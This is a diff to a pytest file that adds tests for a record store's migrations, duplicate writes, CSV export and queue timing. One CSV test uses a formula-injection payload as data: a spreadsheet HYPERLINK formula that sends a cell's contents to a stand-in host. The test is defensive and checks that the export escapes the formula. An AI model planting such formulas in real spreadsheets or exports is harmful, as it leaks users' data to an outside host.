@@ -18,7 +18,7 @@ from pathlib import Path
 
 import nbformat
 import pytest
-from sqlalchemy import create_engine, insert, inspect
+from sqlalchemy import Connection, create_engine, insert, inspect
 
 from playground.errors import AccessError, InputError, RecordError
 from playground.record import (
@@ -35,6 +35,7 @@ from playground.record import (
 )
 from playground.record.classroom import Asked, Classroom
 from playground.record.schema import VERSION, migrate, requests
+from playground.record.store import sqlite_engine
 from playground.result import Result, Stats, Status
 from playground.tasks import Request
 from playground.verdict import Item, Verdict
@@ -367,3 +368,64 @@ def test_a_rating_through_the_classroom_needs_an_answer() -> None:
     with pytest.raises(RecordError, match="PLAYGROUND_RECORD_URL=off"):
         classroom.rate("a" * 32, "up", "", "alice")
     assert entry_of("x", "s", "cli", "debug", "python", None).outcome == "error"
+
+
+def test_a_migration_cut_short_leaves_the_version_before_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from playground.record import schema
+
+    path = tmp_path / "cut.sqlite3"
+    Record(url_of(path)).close()
+    path.unlink()  # a new database, on an engine set up as the record sets it up (store.sqlite_engine)
+    engine = sqlite_engine(url_of(path))
+    migrate(engine, up_to=1)
+
+    first, second = schema.MIGRATIONS
+
+    def cut_short(connection: Connection) -> None:
+        second(connection)  # the real step, then the app dies before the version is written
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(schema, "MIGRATIONS", (first, cut_short))
+    with pytest.raises(KeyboardInterrupt):
+        migrate(engine)
+    with engine.connect() as connection:
+        assert schema.version_of(connection) == 1 and not inspect(connection).has_table("ratings")
+    engine.dispose()
+    monkeypatch.undo()
+    record = Record(url_of(path))  # the next start makes the step again, whole
+    assert record.on and record.add(entry(1))
+    record.rate(entry(1).id, "s1", up=True)
+    assert record.rows()[0]["rating"] == "up"
+
+
+def test_a_write_the_database_refuses_fails_alone_and_the_record_stays_on(tmp_path: Path) -> None:
+    record = Record(url_of(tmp_path / "dup.sqlite3"))
+    for n in (1, 1, 2):  # the second is the same request again: its primary key is taken
+        record.add(entry(n, source_language="x" * 500))
+    assert record.on and [r["id"] for r in record.rows()] == [entry(1).id, entry(2).id]
+    assert record.rows()[0]["source_language"] == "x" * 32  # cut to its column's width
+
+
+def test_the_csv_keeps_a_students_formula_as_text() -> None:
+    data = rows(("debug", "pass", time.time(), "down", None))
+    data[0]["comment"] = '=HYPERLINK("http://x.example/?"&A2, "click")'
+    table = list(csv.DictReader(io.StringIO(summary.to_csv(data))))
+    assert table[0]["comment"].startswith("'=HYPERLINK(")
+
+
+def test_a_wait_counts_only_while_in_line() -> None:
+    from playground.web.waits import Queued
+
+    clock = [100.0]
+    queued = Queued(lambda: clock[0])
+    queued.joined(["a", "b"])
+    clock[0] = 104.0
+    queued.joined(["b"])  # a left the line: it started
+    clock[0] = 104.5
+    assert queued.started("a") == 4.0  # from joining to leaving the line
+    assert queued.started("never-waited") == 0.0
+    clock[0] = 130.0
+    queued.joined([])  # b left too, but did not start (Stop while queued): forgotten after a while
+    clock[0] = 150.0
+    queued.joined([])
+    assert queued.started("b") == 0.0
